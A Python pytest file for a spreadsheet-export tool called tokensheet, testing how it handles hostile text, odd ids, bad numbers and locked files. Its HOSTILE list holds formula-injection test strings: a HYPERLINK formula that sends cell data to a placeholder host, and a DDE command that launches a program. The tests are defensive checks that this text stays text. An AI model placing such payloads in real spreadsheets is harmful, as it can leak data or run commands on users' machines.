"""What goes wrong with exported spreadsheets elsewhere, tried here: hostile text, odd numbers, files in the way."""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from tests.tools import ironcalc_engine, stored
from tests.tools.office import Office
from tests.tools.planbook import formula_cells, only_formulas, planbook
from tests.tools.plugins import plugin
from tests.tools.workbook_lint import lint
from tokensheet.arguments import NodeRef
from tokensheet.cli import commands
from tokensheet.cli.writing import write_all
from tokensheet.constants import Constant
from tokensheet.errors import ExportError, PlanError, ProposalError, TokensheetError
from tokensheet.failure import Failure
from tokensheet.graph import bounds
from tokensheet.planning import Planner
from tokensheet.plugin import Accelerator, Formula, formula
from tokensheet.plugins import load
from tokensheet.proposal import Proposal, parse
from tokensheet.workbook import cells
from tokensheet.workbook.build import build
from tokensheet.workbook.contents import contents_of
from tokensheet.workbook.finish import EPOCH, CellError

PLANNER = Planner.of(disable=("models",))  # the articles' own models are enough here, and the files small
MODEL, GPU = "classic-70b-mha", "h100-sxm-80gb"
GIVEN = {"model": MODEL, "gpu": GPU, "gpus": 8}
SLACK, OTHER_SLACK = (Constant("SLACK", number, "byte", "slack") for number in (64.0, 256.0))


def proposal(*candidates: dict[str, Any], **more: Any) -> Proposal:
    """A small proposal; candidates without a name get one."""
    named = [{"name": f"plan {i}", **GIVEN, **c} for i, c in enumerate(candidates or ({},))]
    return Proposal.model_validate(
        {
            "title": "Hazards",
            "template": "one-page",
            "workload": {"context": 1000},
            "results": ["decode_latency"],
            "candidates": named,
            **more,
        }
    )


@cache
def usual() -> bytes:
    """The workbook of the small proposal."""
    return build(PLANNER, proposal()).xlsx


def texts_of(data: bytes) -> dict[str, set[str]]:
    """Type of cell → what stands in cells of that type, all sheets together."""
    found: dict[str, set[str]] = {}
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                found.setdefault(cell.data_type, set()).add(str(cell.value))
    return found


# ---- text that would be a formula, a reference, an error or broken XML (A01 A12 A15 A34)

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&B2,"Llama")',
    "=cmd|' /C calc'!A0",
    "+1",
    "@SUM(A1)",
    "-5 tokens",
    "\ttab first",
    "#N/A",
    "#SPILL!",
    "n/a",
    "TRUE",
    "H100",
    "R1C1",
    "712e45",
    "12345678901234567",
    "'quoted'",
    "Llama-3.1/70B [prod]: Q4*",
    "History",
    "<b>&amp;</b> ]]> \"'",
    "漢字 🙂 é",
)


@pytest.mark.parametrize(
    "start", [0, *(pytest.param(start, marks=pytest.mark.slow) for start in range(5, len(HOSTILE), 5))]
)
@pytest.mark.slow
def test_text_of_a_proposal_stays_text(start: int, tmp_path: Path) -> None:
    """Title, customer, author, reason and name are the text that was typed, in the file and in spreadsheets."""
    texts = [HOSTILE[(start + i) % len(HOSTILE)] for i in range(5)]
    title, customer, author, reason, name = texts
    given = {"assumptions": {"link_efficiency": 0.8}, "reasons": {"link_efficiency": reason}}
    asked = proposal({"name": name}, title=title, customer=customer, prepared_by=author, **given)
    book = planbook(PLANNER, asked, tmp_path / "hostile.xlsx")
    types = texts_of(book.export.xlsx)
    assert set(texts) <= types["s"]
    assert [t for t in texts if any(t in types.get(kind, ()) for kind in "fbe")] == []
    about = {"texts", "names", "titles", "references", "brackets"}
    assert [f for f in lint(book.export.xlsx) if f.rule in about] == []
    values = ironcalc_engine.values(book.path)
    assert (values["Options"]["D4"], values["Summary"]["C4"], values["Summary"]["A1"]) == (name, name, title)
    assert not isinstance(values["Summary"]["C4"], CellError)


@pytest.mark.slow
def test_libreoffice_shows_hostile_text_as_typed(tmp_path: Path, office: Office) -> None:
    """A name that looks like a formula, a number or an error is the name in a real spreadsheet too."""
    names = HOSTILE[:12]
    book = planbook(PLANNER, proposal(*({"name": n} for n in names)), tmp_path / "names.xlsx")
    row = office.values(book.path)["Summary"]
    assert [row[f"{column}4"] for column in "CDEFGHIJKLMN"] == list(names)


@pytest.mark.slow
def test_names_that_differ_by_a_sign_keep_columns_of_their_own(tmp_path: Path) -> None:
    """A14: nothing is cleaned into something else that is there already."""
    names = ["=x", "'=x", "x"]
    book = planbook(PLANNER, proposal(*({"name": n} for n in names)), tmp_path / "signs.xlsx")
    assert [s["name"] for s in book.export.summary] == names
    assert [stored.values(book.path)["Summary"][f"{c}4"] for c in "CDE"] == names


def test_two_candidates_of_one_name_are_refused() -> None:
    """Columns could not be told apart."""
    text = 'title = "T"\nworkload.context = 1\n' + 2 * '[[candidates]]\nname = "a"\ngpus = 8\n'
    with pytest.raises(ProposalError, match="line 7: two candidates are called 'a'"):
        parse(text, PLANNER)


@pytest.mark.parametrize("character", [*map(chr, [*range(9), 11, 12, *range(14, 32), 127, 0xFFFE, 0xFFFF])])
def test_characters_that_no_workbook_holds_become_spaces(character: str) -> None:
    """Control characters in a text break the XML of a file; here they do not reach it."""
    assert cells.clean(f"a{character}b") == "a b"


@pytest.mark.slow
def test_control_characters_and_line_ends_of_a_proposal(tmp_path: Path) -> None:
    """A whole export with such texts opens and says the rest of them."""
    book = planbook(
        PLANNER, proposal({"name": "a\x01b\x1fc"}, about="one\r\ntwo\rthree\x0b"), tmp_path / "c.xlsx"
    )
    assert stored.values(book.path)["Options"]["D4"] == "a b c"
    assert ironcalc_engine.values(book.path)["Summary"]["C4"] == "a b c"


@pytest.mark.slow
def test_a_text_that_is_too_long_for_a_cell_is_told() -> None:
    """A cell holds 32,767 characters; what is longer is refused, not cut."""
    data = build(PLANNER, proposal(about="x" * 32_000)).xlsx
    assert max(len(t) for t in texts_of(data)["s"]) == 32_000
    with pytest.raises(ValueError, match="at most 32000 characters"):
        proposal(about="x" * 32_001)


# ---- records of plugins (A11 A12 A19)


def gpu(id: str = "odd-gpu", **more: Any) -> Accelerator:
    """An H100 of another name."""
    known = PLANNER.registry.catalog("accelerator").find("h100-sxm-80gb").record
    return Accelerator.model_validate(
        {**known.model_dump(exclude_none=True), "id": id, "name": "", "aliases": (), **more}
    )


def with_plugins(**plugins: Any) -> Planner:
    return Planner(load(disable=["models"], modules=list(plugins.items())))


def with_records(*records: Accelerator) -> Planner:
    return with_plugins(odd=plugin(*records))


ODD_IDS = ("+1", "-5", "@sum", "#n/a", "1e5", "4090", "true", "h100", "'q'", "a&b<c>", "http://x.example/é")


@pytest.mark.slow
def test_records_with_odd_ids_are_found_by_them(tmp_path: Path) -> None:
    """The id is text in its table, in the drop-down and in the look-up, whatever it looks like."""
    planner = with_records(*(gpu(id, memory_bandwidth=1e12 * (i + 1)) for i, id in enumerate(ODD_IDS)))
    book = planbook(planner, proposal(*({"gpu": id} for id in ODD_IDS)), tmp_path / "odd.xlsx")
    calculated = ironcalc_engine.values(book.path)
    for i, id in enumerate(ODD_IDS):
        wanted = planner.one("decode_latency", {**GIVEN, "gpu": id, "context": 1000.0})
        assert book.result(calculated, i, "decode_latency") == pytest.approx(wanted), id
    assert stored.differences(stored.values(book.path), calculated, 1e-12) == []


@pytest.mark.slow
def test_a_number_that_is_an_id_is_found_as_a_number_too(tmp_path: Path) -> None:
    """A spreadsheet makes a number of 4090 when it is chosen from the list."""
    planner = with_records(gpu("4090"))
    book = planbook(planner, proposal(), tmp_path / "number.xlsx")
    values = ironcalc_engine.values(book.path, [("Options", book.options["gpu"][0], 4090.0)])
    wanted = planner.one("decode_latency", {**GIVEN, "gpu": "4090", "context": 1000.0})
    assert book.result(values, 0, "decode_latency") == pytest.approx(wanted)


@pytest.mark.parametrize(
    "id", ["=hyperlink", "a,b", 'say"hi"', "a b", "a*", "gpu?", "~1", "A", "{1}", "f(x)"]
)
def test_ids_that_a_list_or_a_look_up_would_mistake_are_refused(id: str) -> None:
    """Formulas, separators, quotes and wildcards have no place in an id."""
    with pytest.raises(ValueError, match="id"):
        gpu(id)


def test_an_id_with_a_wildcard_typed_past_the_list_finds_nothing(tmp_path: Path, office: Office) -> None:
    """MATCH alone would take the first id that fits and give a number."""
    path = tmp_path / "plan.xlsx"
    path.write_bytes(usual())
    cells: Any = openpyxl.load_workbook(path)["Options"]["B"]
    row = next(int(c.row) for c in cells if c.value == "gpu")
    typed = ("h100*", "h100-sxm-80g?", "*", "h100-sxm-80gb~")
    settings = [[("Options", f"D{row}", text)] for text in typed]
    for found in (*office.states(path, settings), *(ironcalc_engine.values(path, s) for s in settings)):
        assert found["Summary"]["C5"] == "#N/A"
        assert found["Checks"]["C5"] == 0


@pytest.mark.slow
def test_sources_and_names_of_records_stay_text() -> None:
    """What a plugin says about its numbers is never calculated."""
    texts = [*HOSTILE, "x" * 40_000, "a\x00b"]
    records = [gpu(f"gpu-{i}", source=text, name=text.strip(), notes=text) for i, text in enumerate(texts)]
    types = texts_of(build(with_records(*records), proposal({"gpu": "gpu-0"})).xlsx)
    shown = {t.strip() for t in types["s"]}
    assert [t for t in texts if cells.clean(t).strip() not in shown] == []
    assert [t for t in texts if t in types["f"]] == []


@pytest.mark.slow
@pytest.mark.parametrize("value", [float("nan"), float("inf"), -1.0])
def test_a_fact_that_is_no_number_is_refused_with_its_record(value: float) -> None:
    """The rest of the plugin and of the catalogue works."""
    planner = with_plugins(odd=plugin(accelerators=lambda: [gpu(memory_bandwidth=value)]))
    build(planner, proposal())
    assert any("memory_bandwidth" in line and "odd" in line for line in planner.registry.problems)


@pytest.mark.slow
def test_a_missing_fact_is_an_error_in_its_own_row_only(tmp_path: Path) -> None:
    """Not 0, not an empty cell: what needs it has no answer, and Checks says so."""
    record = gpu(memory_bandwidth=None)
    asked = proposal({"gpu": "odd-gpu"}, results=["decode_latency", "kv_bytes"])
    book = planbook(with_records(record), asked, tmp_path / "missing.xlsx")
    for values in (stored.values(book.path), ironcalc_engine.values(book.path)):
        assert book.result(values, 0, "decode_latency") == CellError("#N/A")
        assert isinstance(book.result(values, 0, "kv_bytes"), float)
        assert values["Checks"]["C5"] == 0
        assert values["Summary"][f"C{book.summary['Checks']}"] == "Decode latency has an answer: no"
    assert "states no memory_bandwidth" in book.export.summary[0]["reasons"]["decode_latency"]


@pytest.mark.slow
def test_records_of_one_id_from_two_plugins_are_told_apart(tmp_path: Path) -> None:
    """Each is chosen by its plugin's name, in the file as in a function."""
    slow, fast = gpu(memory_bandwidth=1e12), gpu(memory_bandwidth=9e12)
    planner = with_plugins(slow=plugin(slow), fast=plugin(fast))
    asked = proposal({"gpu": "slow:odd-gpu"}, {"gpu": "fast:odd-gpu"})
    book = planbook(planner, asked, tmp_path / "clash.xlsx")
    kept, calculated = stored.values(book.path), ironcalc_engine.values(book.path)
    assert stored.differences(kept, calculated, 1e-12) == []
    one, other = (book.result(calculated, i, "decode_latency") for i in range(2))
    assert isinstance(one, float) and isinstance(other, float) and one > 2 * other


@pytest.mark.slow
def test_an_alias_in_a_proposal_becomes_the_id(tmp_path: Path) -> None:
    """The look-up knows ids only."""
    record = next(e.record for e in PLANNER.registry.catalog("accelerator") if e.record.aliases)
    book = planbook(PLANNER, proposal({"gpu": record.aliases[0].upper()}), tmp_path / "alias.xlsx")
    assert stored.values(book.path)["Options"][book.options["gpu"][0]] == record.id
    assert stored.differences(stored.values(book.path), ironcalc_engine.values(book.path), 1e-12) == []


# ---- numbers (A13 A19 A23)


@pytest.mark.parametrize("text", ["inf", "nan", "-inf", "-1", '"4k"', "true", "[1]"])
def test_a_proposal_with_a_number_that_is_none_is_refused(text: str) -> None:
    """In one line that says which."""
    source = f'title = "T"\n[workload]\ncontext = {text}\n[[candidates]]\nname = "a"\ngpus = 8\n'
    if text == "true":  # a flag is 0 or 1, and 1 token is a context
        parse(source, PLANNER)
        return
    with pytest.raises(ProposalError, match="context"):
        parse(source, PLANNER)


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_no_cell_is_written_with_a_number_that_is_none(value: float) -> None:
    """An empty cell in its place would make a sum too low."""
    book = cells.Book()
    sheet = book.sheet("S")
    with pytest.raises(ValueError, match="S A1"):
        book.number(sheet, 1, 1, value)


def test_cells_take_the_numbers_that_functions_take() -> None:
    """A stated fact or result is not negative: the rule of its cell says so too."""
    asked = proposal({"memory_bandwidth": 3e12, "cost_per_hour": 12.0}, results=["tokens_per_dollar"])
    cells_of = contents_of(PLANNER, asked).cells
    nodes = PLANNER.registry.nodes
    cells_ = {c.name: c for c in (*cells_of.inputs, *cells_of.options) if c.name in nodes}
    assert {"memory_bandwidth", "cost_per_hour", "batch"} <= cells_.keys()
    assert {n for n, c in cells_.items() if (c.ends, c.whole) != _allowed(nodes[n])} == set()


def _allowed(definition: Any) -> tuple[Any, bool]:
    return bounds(definition).ends, bounds(definition).whole


def test_a_negative_number_stays_a_number() -> None:
    """Only text is guarded against being read as a formula."""
    book = cells.Book()
    sheet = book.sheet("S")
    assert book.number(sheet, 1, 1, -5).data_type == "n"
    assert book.text(sheet, 2, 1, "-5").data_type == "s"


def test_a_result_beyond_the_largest_number_is_an_error(tmp_path: Path, office: Office) -> None:
    """Not infinity, and not an empty cell."""
    asked = proposal({"batch": 1e300}, results=["kv_bytes"], workload={"context": 1e300})
    book = planbook(PLANNER, asked, tmp_path / "huge.xlsx")
    for values in (stored.values(book.path), office.values(book.path)):
        assert book.result(values, 0, "kv_bytes") == CellError("#NUM!")


def test_large_byte_counts_are_exact(tmp_path: Path) -> None:
    """Whole numbers of up to fifteen digits survive."""
    asked = proposal({"batch": 1024}, results=["kv_bytes"], workload={"context": 131072})
    book = planbook(PLANNER, asked, tmp_path / "bytes.xlsx")
    assert book.result(stored.values(book.path), 0, "kv_bytes") == 1024 * 131_072 * (2 * 80 * 64 * 128 * 2)


# ---- circles (A25)


def test_a_batch_that_depends_on_itself_is_refused_in_one_line() -> None:
    """No iteration, no endless loop: the circle is told, with the way out."""
    found = PLANNER.one("tokens_per_second", {**GIVEN, "context": 1000.0, "batch": NodeRef("decode_latency")})
    assert isinstance(found, Failure) and found.kind is PlanError
    assert found.reason.startswith("batch is calculated from itself: batch → decode_latency →")
    assert found.reason.endswith("give one of them as a number")


@formula(unit="sequence", source="test", replaces="max_batch")
def max_batch(kv_bytes, kv_bytes_per_sequence):  # type: ignore[no-untyped-def]
    """A largest batch that needs the batch."""
    return kv_bytes / kv_bytes_per_sequence


def test_a_workbook_whose_largest_batch_needs_the_batch_is_refused() -> None:
    """By the export, before a spreadsheet shows 0."""
    planner = with_plugins(circle=plugin(max_batch))
    with pytest.raises(TokensheetError, match=r"calculated from itself: .*batch → max_batch.* → batch"):
        build(planner, proposal({"batch": "max"}))


@pytest.mark.slow
def test_a_largest_batch_of_none_is_no_answer(tmp_path: Path) -> None:
    """Nothing fits: the results are errors in the cells and by the functions, not numbers of an empty batch."""
    book = planbook(
        PLANNER, proposal({"gpus": 1, "batch": "max"}, results=["tokens_per_second"]), tmp_path / "none.xlsx"
    )
    assert book.result(ironcalc_engine.values(book.path), 0, "tokens_per_second") == CellError("#N/A")
    assert "it must be above 0" in book.export.summary[0]["reasons"]["tokens_per_second"]


def test_the_largest_batch_is_the_same_at_every_context() -> None:
    """`batch = "max"` is one number, also where a formula looks at the end of a request."""
    given = {**GIVEN, "context": 2000.0, "prompt": 1000.0, "output": 200.0}
    limit = PLANNER.one("max_batch", given)
    assert PLANNER.one("request_latency", {**given, "batch": NodeRef("max_batch")}) == PLANNER.one(
        "request_latency", {**given, "batch": limit}
    )


# ---- the file and what is in its way (A27 A28 A29 A30 A31 A33 A35)

TOML = f"""title = "T"
template = "one-page"
[workload]
context = 10
[[candidates]]
name = "a"
model = "{MODEL}"
gpu = "{GPU}"
gpus = 8
"""


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "plan.toml"
    path.write_text(TOML)
    return path


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with that proposal and what its export wrote."""
    folder = tmp_path_factory.mktemp("made")
    (folder / "plan.toml").write_text(TOML)
    assert run(folder / "plan.toml")[0] == 0
    return folder


@pytest.fixture
def exported(made: Path, tmp_path: Path) -> Path:
    """The proposal in a folder of its own, exported."""
    return Path(shutil.copytree(made, tmp_path / "exported")) / "plan.toml"


def run(*arguments: str | Path) -> tuple[int, str, str]:
    """Exit code, output and errors of `tokensheet export`."""
    done = CliRunner().invoke(commands.tokensheet, ["--disable", "models", "export", *map(str, arguments)])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code, done.stdout, done.stderr


def one_line(text: str) -> str:
    assert text.count("\n") == 1
    return text.strip()


@pytest.mark.slow
def test_an_export_writes_a_workbook_and_its_text(file: Path) -> None:
    """Beside the proposal, for everybody to read, and again without asking."""
    for _ in range(2):
        code, output, errors = run(file)
        assert (code, errors) == (0, "")
        assert f"written: {file.with_suffix('.xlsx')}" in output
    assert sorted(p.name for p in file.parent.iterdir()) == ["plan.toml", "plan.txt", "plan.xlsx"]
    assert stat.S_IMODE(file.with_suffix(".xlsx").stat().st_mode) == 0o644


@pytest.mark.slow
def test_json_is_the_summary_and_nothing_else(file: Path) -> None:
    """For programs: names, results, reasons."""
    code, output, _ = run(file, "--json")
    (summary,) = json.loads(output).values()
    assert code == 0
    assert summary[0]["name"] == "a" and summary[0]["results"]["decode_latency"] > 0


@pytest.mark.slow
@pytest.mark.parametrize("lock", [".~lock.plan.xlsx#", "~$plan.xlsx"])
def test_a_workbook_that_is_open_is_left_alone(exported: Path, lock: str) -> None:
    """One line, exit code not 0, the old file untouched."""
    before = exported.with_suffix(".xlsx").read_bytes()
    (exported.parent / lock).touch()
    exported.write_text(TOML.replace("context = 10", "context = 20"))
    code, _, errors = run(exported)
    assert code == 1
    assert one_line(errors).endswith(
        "plan.xlsx is open in another program; close it or choose another folder with -o"
    )
    assert exported.with_suffix(".xlsx").read_bytes() == before


def saved_by_a_user(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    book["Inputs"]["C6"] = 99
    book.save(path)


def saved_by_excel(path: Path) -> None:
    """A cell is another, and the entries carry a date of 1980, as those of an export do."""
    repacked(path, "xl/worksheets/sheet2.xml", b"Decode latency", b"Checked by Ann: decode latency")


def with_another_title(path: Path) -> None:
    repacked(path, "docProps/core.xml", b">T<", b">Ann's<")


def repacked(path: Path, part: str, old: bytes, new: bytes) -> None:
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(zipfile.ZipInfo(name, EPOCH), data)


def with_a_note_below(path: Path) -> None:
    with path.open("a", encoding="utf-8") as file:
        file.write("ask Ann about the price\n")


def replaced_by_another_file(path: Path) -> None:
    path.write_bytes(b"no workbook at all")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("plan.xlsx", saved_by_a_user),
        ("plan.xlsx", saved_by_excel),
        ("plan.xlsx", with_another_title),
        ("plan.txt", with_a_note_below),
        ("plan.xlsx", replaced_by_another_file),
        ("plan.txt", replaced_by_another_file),
    ],
)
def test_a_file_that_somebody_changed_is_replaced_only_by_force(
    exported: Path, name: str, change: Callable[[Path], None]
) -> None:
    """Neither the workbook nor its text is written when one of the two is somebody's work."""
    change(exported.with_name(name))
    before = {p.name: p.read_bytes() for p in exported.parent.iterdir()}
    code, _, errors = run(exported)
    assert code == 1
    assert f"{name} exists and is not as an export left it; add --force" in one_line(errors)
    assert {p.name: p.read_bytes() for p in exported.parent.iterdir()} == before
    assert run(exported, "--force")[0] == 0
    assert exported.with_name(name).read_bytes() != before[name]


@pytest.mark.slow
def test_a_folder_in_the_way_is_one_line(file: Path) -> None:
    file.with_suffix(".xlsx").mkdir()
    code, _, errors = run(file, "--force")
    assert code == 1
    assert "plan.xlsx is a folder" in one_line(errors)


def test_a_write_that_fails_half_way_leaves_the_old_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No half of a file, no temporary file left behind, one line."""
    target, text = tmp_path / "a.xlsx", tmp_path / "a.txt"
    target.write_bytes(b"old")
    real = os.open

    def full(path: Any, *rest: Any) -> int:
        if len(list(tmp_path.glob(".a-*"))) > 0:
            raise OSError(28, "No space left on device")
        return real(path, *rest)

    monkeypatch.setattr(os, "open", full)
    with pytest.raises(ExportError, match="No space left on device; choose another file"):
        write_all({target: b"new", text: b"new"}, force=True)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == {"a.xlsx": b"old"}


def test_a_bad_proposal_does_not_stop_the_others(file: Path) -> None:
    """Its mistakes are told, the exit code says so, the rest is written."""
    bad = file.with_name("bad.toml")
    bad.write_text(TOML.replace("gpus = 8", 'gpus = "eight"'))
    code, output, errors = run(bad, file)
    assert code == 1
    assert 'bad.toml: line 9: gpus is "eight"' in errors
    assert "plan.xlsx" in output and file.with_suffix(".xlsx").exists()
    assert not bad.with_suffix(".xlsx").exists()


@pytest.mark.slow
def test_an_export_is_the_same_whatever_stood_there(exported: Path) -> None:
    """A file is written anew, never loaded and edited."""
    first = exported.with_suffix(".xlsx").read_bytes()
    saved_by_a_user(exported.with_suffix(".xlsx"))
    run(exported, "--force")
    assert exported.with_suffix(".xlsx").read_bytes() == first


@pytest.mark.slow
def test_twelve_candidates_and_the_full_catalogue_stay_small() -> None:
    """A mail takes it; times are measured by the benchmarks."""
    data = build(
        PLANNER,
        proposal(*({"batch": i + 1} for i in range(12)), results=Proposal.model_fields["results"].default),
    ).xlsx
    assert len(data) < 1_000_000


@pytest.mark.slow
def test_protection_is_without_password_and_nothing_is_hidden(tmp_path: Path) -> None:
    """Protection is against slips, and About says so."""
    book = openpyxl.load_workbook(io.BytesIO(usual()))
    assert all(s.protection.sheet and s.protection.password is None for s in book.worksheets)
    assert {s.sheet_state for s in book.worksheets} == {"visible"}
    assert any("without a password" in str(r[1].value) for r in book["About"].iter_rows(max_col=2))


def test_the_package_says_nothing_of_the_machine() -> None:
    """No paths, no user, no clock: only the title and who prepared it."""
    data = build(PLANNER, proposal(prepared_by="Ada")).xlsx
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name).decode(errors="replace") for name in package.namelist()}
    core = parts["docProps/core.xml"]
    assert "Ada" in core and "2026-01-01T00:00:00Z" in core
    words = {str(Path.home()), os.environ.get("USER") or "nobody-at-all", str(Path.cwd())} - {
        "/",
        "/root",
        "root",
    }
    assert [w for w in words for text in parts.values() if w in text] == []


@pytest.mark.slow
def test_names_are_only_print_titles() -> None:
    """A01 to A05: no names of cells and no tables, so none that looks like a cell, is taken or leads nowhere."""
    book = openpyxl.load_workbook(
        io.BytesIO(build(PLANNER, proposal({"name": "H100"}, {"name": "TP8"})).xlsx)
    )
    assert list(book.defined_names) == []
    assert {n for s in book.worksheets for n in s.defined_names} <= {"_xlnm.Print_Titles", "_xlnm.Print_Area"}
    assert [t for s in book.worksheets for t in s.tables] == []


def test_two_numbers_of_one_name_are_two_constants(tmp_path: Path) -> None:
    """Two plugins that call different numbers alike: each formula reads its own."""

    @formula(unit="byte", source="test")
    def one_more(kv_bytes):  # type: ignore[no-untyped-def]
        """The cache and some slack."""
        return kv_bytes + SLACK

    @formula(unit="byte", source="test")
    def two_more(kv_bytes):  # type: ignore[no-untyped-def]
        """The cache and other slack."""
        return kv_bytes + OTHER_SLACK

    assert isinstance(one_more, Formula) and isinstance(two_more, Formula)
    planner = with_plugins(one=plugin(one_more), two=plugin(two_more))
    asked = proposal(results=["kv_bytes", "one_more", "two_more"])
    book = planbook(planner, asked, tmp_path / "slack.xlsx")
    cells_ = formula_cells(book.path)
    kept, calculated = (only_formulas(f(book.path), cells_) for f in (stored.values, ironcalc_engine.values))
    assert stored.differences(kept, calculated, 1e-12) == []
    one, two, cache = (
        planner.one(name, {**GIVEN, "context": 1000.0}) for name in ("one_more", "two_more", "kv_bytes")
    )
    assert (one, two) == (cache + 64, cache + 256)


def test_formulas_of_a_replacing_plugin_say_whose_they_are(tmp_path: Path) -> None:
    """About and the summary name the plugin whose formula counts."""

    @formula(unit="byte", source="test", replaces="kv_bytes")
    def kv_bytes(batch, kv_bytes_per_sequence):  # type: ignore[no-untyped-def]
        """Twice the cache."""
        return 2 * batch * kv_bytes_per_sequence

    assert isinstance(kv_bytes, Formula)
    planner = with_plugins(twice=plugin(kv_bytes))
    book = planbook(planner, proposal(results=["kv_bytes"]), tmp_path / "twice.xlsx")
    cells_ = formula_cells(book.path)
    kept, calculated = (only_formulas(f(book.path), cells_) for f in (stored.values, ironcalc_engine.values))
    assert stored.differences(kept, calculated, 1e-12) == []
    assert "kv_bytes by twice, in place of inference" in book.export.text
